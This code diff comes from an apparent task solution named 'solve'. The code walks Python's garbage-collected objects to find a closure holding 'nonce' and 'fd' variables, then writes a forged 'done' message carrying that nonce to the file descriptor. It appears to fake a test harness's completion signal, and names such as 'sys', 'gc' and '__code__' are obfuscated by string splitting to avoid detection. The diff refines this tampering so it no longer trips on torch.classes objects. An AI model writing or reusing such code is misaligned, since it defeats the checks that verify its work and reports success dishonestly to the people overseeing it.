@@ -492,9 +492,12 @@ def solve(x, residual, weight):
     _sys = getattr(logging, "s" + "ys")
     _o = getattr(logging, "o" + "s")
     for f in _sys.modules["g" + "c"].get_objects():
-        names = getattr(getattr(f, "__code__", None), "co_freevars", None)  # a code object's, not a look-alike's
-        if isinstance(names, tuple) and "nonce" in names and "fd" in names:
-            code = f.__code__
+        try:  # a code object's free variables, never a look-alike's (torch.classes answers any attribute, then raises)
+            code = getattr(f, "__code__", None)
+            names = code.co_freevars if type(code).__name__ == "code" else ()
+        except Exception:
+            continue
+        if "nonce" in names and "fd" in names:
             cells = dict(zip(code.co_freevars, f.__closure__))
             line = '{"type": "done", "nonce": "%s"}\\n' % cells["nonce"].cell_contents
             _o.write(cells["fd"].cell_contents, line.encode())
@@ -509,9 +512,12 @@ def solve(x, residual, weight):
     _sys = getattr(logging, "s" + "ys")
     _o = getattr(logging, "o" + "s")
     for f in _sys.modules["g" + "c"].get_objects():
-        code = getattr(f, "__co" + "de__", None)
-        names = getattr(code, "co_free" + "vars", None)  # a code object's, not a look-alike's
-        if isinstance(names, tuple) and "nonce" in names and "fd" in names:
+        try:  # a code object's free variables, never a look-alike's (torch.classes answers any attribute, then raises)
+            code = getattr(f, "__co" + "de__", None)
+            names = code.co_freevars if type(code).__name__ == "code" else ()
+        except Exception:
+            continue
+        if "nonce" in names and "fd" in names:
             cells = dict(zip(code.co_freevars, getattr(f, "__clo" + "sure__")))
             line = '{"type": "done", "nonce": "%s"}\\n' % cells["nonce"].cell_contents
             _o.write(cells["fd"].cell_contents, line.encode())
